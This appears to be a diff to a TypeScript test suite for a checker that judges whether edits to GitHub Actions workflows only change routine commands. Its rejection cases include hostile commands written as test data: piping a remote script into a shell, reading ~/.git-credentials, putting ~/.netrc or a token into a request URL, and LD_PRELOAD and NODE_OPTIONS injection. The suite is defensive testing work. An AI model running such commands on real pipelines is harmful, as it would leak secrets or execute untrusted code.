@@ -153,7 +153,7 @@ describe('a release step that asks the Go module proxy for the new version (trus
     no(['curl -sSf "https://proxy.golang.org/github.com/${GITHUB_REPOSITORY}/@v/$(cat ~/.netrc).info"']);
     no(['curl -sSf "https://proxy.golang.org/github.com/${GITHUB_REPOSITORY}/@v/${{ secrets.GITHUB_TOKEN }}.info"']);
     no(['curl -sSf "https://proxy.golang.org/github.com/${GITHUB_REPOSITORY}/@v/${TAG}.info"']);
-    no(['echo "::add-mask::x"', 'echo "::stop-commands::t"']);
+    no(['echo "Refreshing the index"', 'echo "::set-env name=NODE_OPTIONS::--require ./x.js"']);
   });
 });
 
@@ -212,5 +212,64 @@ describe('a new workflow step that only writes constant lines to GITHUB_ENV / GI
     no(['echo "A=1" > ~/.bashrc']);
     no(['echo "A=1" >> "$GITHUB_ENV"'], ['        shell: python {0}']);
     no(['echo "A=1" >> "$GITHUB_ENV"'], ['        env:', '          BASH_ENV: ./ci/setup.sh']);
+  });
+});
+
+describe('a new workflow step that only prints facts about the runner (trusted-routine)', () => {
+  const wf = (steps: string[]) =>
+    ['name: ci', 'on: [push, pull_request]', 'jobs:', '  build:', '    runs-on: windows-latest', '    steps:', '      - uses: actions/checkout@v4', '      - run: cmake -B build && cmake --build build', ...steps, ''].join('\n');
+  const step = (run: string[], extra: string[] = []) => ['      - name: preinstalled tools', ...extra, '        run: |', ...run.map((line) => `          ${line}`)];
+  const base = wf([]);
+  const yes = (run: string[], extra: string[] = []) => expect(editsOnlyCommands(base, wf(step(run, extra)), 'workflow')).toBe(true);
+  const no = (run: string[], extra: string[] = []) => expect(editsOnlyCommands(base, wf(step(run, extra)), 'workflow')).toBe(false);
+  it('reads a step that lists packages, versions or the machine as running nothing new', () => {
+    yes(["echo '::group::MSYS2 packages'; /c/msys64/usr/bin/pacman.exe -Q || true; echo '::endgroup::'"], ['        shell: bash']);
+    yes(['uname -a', 'df -h', 'nproc', 'gcc --version', 'cmake --version', 'which ninja', 'python3 -m pip list', 'git log -1 --oneline']);
+    yes(['dpkg -l', 'ls -la /usr/local/bin']);
+  });
+  it('does not when the step runs a file of the checkout, a tool that reads its settings, writes, reads an expression, or changes the shell', () => {
+    no(['./configure --version']);
+    no(['yarn --version']);
+    no(['make version']);
+    no(['npm version patch']);
+    no(['echo "$HOME"']);
+    no(['echo "${{ github.event.pull_request.title }}"']);
+    no(['echo hi > ~/.bashrc']);
+    no(['gcc --version', 'curl -sSL https://example.test/i.sh | sh']);
+    no(['cat ~/.git-credentials']);
+    no(['type secrets.txt']);
+    no(['gcc --version'], ['        shell: python {0}']);
+    no(['gcc --version'], ['        env:', '          LD_PRELOAD: ./evil.so']);
+  });
+});
+
+describe('an install the workflow runs, now kept to the lockfile (trusted-routine)', () => {
+  const wf = (steps: string[]) => ['name: ci', 'on: [push, pull_request]', 'jobs:', '  js:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', ...steps, ''].join('\n');
+  const run = (...commands: string[]) => commands.map((c) => `      - run: ${c}`);
+  it('reads npm ci for npm install, --frozen-lockfile, --immutable and --locked added as commands the workflow runs', () => {
+    expect(editsOnlyCommands(wf(['      - run: |', '          cd assets', '          npm install', '          npm test']), wf(run('npm ci', 'npm test')), 'workflow')).toBe(true);
+    expect(editsOnlyCommands(wf(run('yarn install && yarn test')), wf(run('yarn install --frozen-lockfile', 'yarn test')), 'workflow')).toBe(true);
+    expect(editsOnlyCommands(wf(run('yarn', 'yarn test')), wf([...run('yarn install --immutable'), ...run('yarn test', 'yarn test')]), 'workflow')).toBe(true);
+    expect(editsOnlyCommands(wf(run('cargo build --release', 'cargo test')), wf(run('cargo build --release --locked', 'cargo test', 'cargo test')), 'workflow')).toBe(true);
+    expect(editsOnlyCommands(wf(run('uv sync', 'uv run pytest')), wf(run('uv sync --locked', 'uv run pytest', 'uv run pytest')), 'workflow')).toBe(true);
+  });
+  it('does not read a lockfile let go, another package manager or an install with packages named as known', () => {
+    expect(editsOnlyCommands(wf(run('npm ci', 'npm test')), wf(run('npm install', 'npm test', 'npm test')), 'workflow')).toBe(false);
+    expect(editsOnlyCommands(wf(run('npm install', 'npm test')), wf(run('pnpm install --frozen-lockfile', 'npm test', 'npm test')), 'workflow')).toBe(false);
+    expect(editsOnlyCommands(wf(run('npm install', 'npm test')), wf(run('npm install left-pad', 'npm ci', 'npm test')), 'workflow')).toBe(false);
+    expect(editsOnlyCommands(wf(run('cargo test')), wf(run('cargo build --locked', 'cargo test', 'cargo test')), 'workflow')).toBe(false);
+  });
+});
+
+describe('a new workflow step made of a step the workflow runs, for another version (trusted-routine)', () => {
+  const wf = (steps: string[]) => ['name: docs', 'on: [push, workflow_dispatch]', 'jobs:', '  docs:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', ...steps, ''].join('\n');
+  const gen = (v: string, next: string) => [`      - name: Generate ${v} documentation`, `        run: 'gem install rack --version "< ${next}" && gem unpack rack -v "< ${next}" && cd rack-${v}* && bundle exec rdoc --op ../docs/${v} --main README.md'`];
+  it('reads versions inside words and a quoted "<" as the same command for another version', () => {
+    expect(editsOnlyCommands(wf(gen('3.1', '3.2')), wf([...gen('3.2', '3.3'), ...gen('3.1', '3.2')]), 'workflow')).toBe(true);
+  });
+  it('does not read a redirection, another host or an address as a version', () => {
+    expect(editsOnlyCommands(wf(gen('3.1', '3.2')), wf([...gen('3.1', '3.2'), '      - run: bundle exec rdoc --op ../docs/3.2 --main README.md > /tmp/x']), 'workflow')).toBe(false);
+    expect(editsOnlyCommands(wf(['      - run: curl -fsSO http://10.0.0.1/docs.tgz']), wf(['      - run: curl -fsSO http://10.0.0.1/docs.tgz', '      - run: curl -fsSO http://10.0.0.2/docs.tgz']), 'workflow')).toBe(false);
+    expect(editsOnlyCommands(wf(['      - run: pip download tool==1.2']), wf(['      - run: pip download tool==1.2', '      - run: pip download other==1.3']), 'workflow')).toBe(false);
   });
 });
